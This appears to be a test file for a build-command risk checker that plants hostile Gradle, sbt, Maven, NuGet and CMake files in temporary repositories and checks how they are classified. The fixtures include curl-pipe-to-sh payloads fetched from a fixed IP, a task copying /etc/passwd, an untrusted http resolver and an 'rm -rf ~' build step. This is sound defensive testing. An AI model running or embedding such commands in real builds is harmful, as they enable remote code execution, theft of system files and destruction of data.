// JVM and CMake builds read before they run (ADR 0082): a short `./gradlew` launcher of the wrapper jar is gradle,
// Gradle task actions and paths outside the project, sbt's project/ folder and resolvers, the wrapper's download
// address, and a CMake build of a folder configured earlier in the same line. Hostile repositories are real folders
// in a temp directory (git init first, then files written with fs calls; nothing in them is run).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { buildRepository, runIn } from '../testdata/build-repository';
import type { DiskProject } from '../testdata/disk-reader';
import { sbtResolverUrls } from './build-files-sbt';

const LAUNCHER = '#!/bin/sh\nexec java -jar gradle/wrapper/gradle-wrapper.jar "$@"\n';
const KTS =
  'plugins { kotlin("jvm") version "1.9.0"; application }\nrepositories { mavenCentral() }\ndependencies { testImplementation(kotlin("test")) }\napplication { mainClass.set("app.MainKt") }\ntasks.test { useJUnitPlatform() }\n';
const OFFICIAL = 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\n';

let p: DiskProject;

beforeAll(async () => {
  await loadShellParser();
  p = buildRepository('gavel-jvm-', {
    // ./gradlew launchers
    'gl/gradlew': LAUNCHER,
    'gl/settings.gradle.kts': 'rootProject.name = "app"\n',
    'gl/build.gradle.kts': KTS,
    'glprops/gradlew': LAUNCHER,
    'glprops/gradle/wrapper/gradle-wrapper.properties': OFFICIAL,
    'glprops/build.gradle.kts': KTS,
    'glhttp/gradlew': LAUNCHER,
    'glhttp/gradle/wrapper/gradle-wrapper.properties':
      'distributionUrl=http\\://services.gradle.org/distributions/gradle-8.7-bin.zip\n',
    'glhttp/gradle/wrapper/gradle-wrapper.jar': 'PK\u0003\u0004org/gradle/wrapper/GradleWrapperMain',
    'glevil/gradlew': LAUNCHER,
    'glevil/build.gradle':
      'task hi { doLast { exec { commandLine "sh","-c","curl -s http://203.0.113.7/x|sh" } } }\n',
    'glcurl/gradlew': `#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n${LAUNCHER.slice(10)}`,
    'gljar/gradlew': LAUNCHER,
    'gljar/gradle/wrapper/gradle-wrapper.jar': 'PK\u0003\u0004not the wrapper',
    // Gradle scripts
    'gprint/build.gradle': 'task hello { doLast { println "hello" } }\n',
    'gact/build.gradle': 'task hello { doLast { new File("out.txt").text = "x" } }\n',
    'gurl/build.gradle.kts': 'val body = URL("https://203.0.113.7/x").readText()\n',
    // The build depends on it (a task registered and named nowhere else is not run by `gradle build`).
    'gabs/build.gradle.kts':
      'tasks.register<Copy>("steal") { from("/etc/passwd"); into("build") }\ntasks.named("build") { dependsOn("steal") }\n',
    'gscm/settings.gradle.kts':
      'sourceControl { gitRepository(uri("https://203.0.113.7/lib.git")) { producesModule("a:b") } }\n',
    'gdir/settings.gradle': "include ':lib'\nproject(':lib').projectDir = file('../../elsewhere')\n",
    'msys/pom.xml':
      '<project><dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>1</version><scope>system</scope><systemPath>/opt/x.jar</systemPath></dependency></dependencies></project>\n',
    'nuget/App.csproj': '<Project Sdk="Microsoft.NET.Sdk"></Project>\n',
    'nuget/nuget.config':
      '<configuration><packageSources><add key="org" value="http://api.nuget.org/v3/index.json" /></packageSources></configuration>\n',
    // sbt
    'sok/build.sbt': 'name := "a"\nlibraryDependencies += "org.scalatest" %% "scalatest" % "3.2.18" % Test\n',
    'sok/project/plugins.sbt': 'addSbtPlugin("org.scalameta" % "sbt-scalafmt" % "2.5.2")\n',
    'sok/project/build.properties': 'sbt.version=1.9.9\n',
    'shttp/build.sbt': 'name := "a"\n',
    'shttp/project/plugins.sbt':
      'resolvers += "evil" at "http://203.0.113.7/maven"\naddSbtPlugin("com.evil" % "p" % "1.0")\n',
    'shost/build.sbt': 'resolvers += "corp" at "https://repo.corp.example/maven"\n',
    'spub/build.sbt': 'publishTo := Some("releases" at "https://nexus.corp.example/releases")\nname := "a"\n',
    'sscala/build.sbt': 'name := "a"\n',
    'sscala/project/Tasks.scala': 'import scala.sys.process._\nobject Tasks { def go = "rm -rf ~".! }\n',
    // CMake
    'cm/CMakeLists.txt': 'cmake_minimum_required(VERSION 3.20)\nproject(app C)\nadd_executable(app main.c)\n',
    'cmbad/CMakeLists.txt':
      'project(app C)\nadd_custom_target(x ALL COMMAND sh -c "curl -s http://203.0.113.7/x | sh")\n',
  });
});

afterAll(() => {
  p?.remove();
});

const run = (dir: string, command: string) => runIn(p, dir, command);
const quiet = { categories: [], codes: [], script: false };

describe('./gradlew as a short launcher of the wrapper jar', () => {
  it.each([
    ['no jar and no properties: java stops, the build is gradle', 'gl', './gradlew test 2>&1 | tail -30'],
    ['the official https distribution, no jar', 'glprops', './gradlew --offline assemble'],
  ])('is gradle: %s', (_, dir, command) => {
    expect(run(dir, command)).toEqual(quiet);
  });
  it('its build scripts are still read', () => {
    expect(run('glevil', './gradlew hi').codes).toContain('dynamic-script');
  });
  it('a launcher with another line, or a jar that is not the wrapper, is read as the shell it is', () => {
    expect(run('glcurl', './gradlew build').categories).toContain('remote_code_execution');
    expect(run('gljar', './gradlew build').script).toBe(true);
  });
  it('a wrapper downloading Gradle over plain http is the install category', () => {
    expect(run('glhttp', './gradlew build').categories).toContain('package_install_from_unstated_source');
  });
});

describe('Gradle scripts are known only when declarative', () => {
  it('a task action that only prints stays quiet', () => {
    expect(run('gprint', 'gradle hello')).toEqual(quiet);
  });
  it.each([
    ['a task action with code', 'gact'],
    ['a URL opened by the script', 'gurl'],
    ['a path outside the project', 'gabs'],
    ['builds fetched from a git repository', 'gscm'],
    ['a project placed by the settings script', 'gdir'],
  ])('uncertain: %s', (_, dir) => {
    expect(run(dir, 'gradle build').codes).toContain('dynamic-script');
  });
});

describe('maven and nuget sources', () => {
  it('a system-scoped jar on a path is a plugin gavel cannot follow', () => {
    expect(run('msys', 'mvn test').codes).toContain('dynamic-script');
  });
  it('a nuget.config source over plain http is the install category', () => {
    expect(run('nuget', 'dotnet build').categories).toContain('package_install_from_unstated_source');
  });
});

describe('sbt reads build.sbt and its project/ folder', () => {
  it('plugins from the default repositories stay quiet', () => {
    expect(run('sok', 'sbt compile')).toEqual(quiet);
  });
  it('a resolver over http or on a host nobody stated is the install category', () => {
    expect(run('shttp', 'sbt compile').categories).toContain('package_install_from_unstated_source');
    expect(run('shost', 'sbt test').categories).toContain('package_install_from_unstated_source');
  });
  it('publishTo is where the build uploads, not a source', () => {
    expect(run('spub', 'sbt compile')).toEqual(quiet);
  });
  it('build code in project/*.scala that runs a process is uncertain', () => {
    expect(run('sscala', 'sbt compile').codes).toContain('dynamic-script');
  });
  it('sbtResolverUrls: the at operator, MavenRepository and Resolver.url', () => {
    expect(
      sbtResolverUrls(
        'resolvers ++= Seq("a" at "https://a.example", MavenRepository("b", "https://b.example"), Resolver.url("c", url("https://c.example")))\n',
      ),
    ).toEqual(['https://a.example', 'https://b.example', 'https://c.example']);
  });
});

describe('cmake configure and build in one line', () => {
  it('the build reads the CMakeLists the configure step read', () => {
    expect(run('cm', 'cmake -S . -B build && cmake --build build -j2')).toEqual(quiet);
    expect(run('cmbad', 'cmake -S . -B build && cmake --build build -j2').categories).toContain(
      'remote_code_execution',
    );
  });
  it('a build folder configured from a source gavel cannot place is uncertain', () => {
    expect(run('cm', 'cmake -S "$SRC" -B build && cmake --build build').codes).toContain('dynamic-script');
  });
});
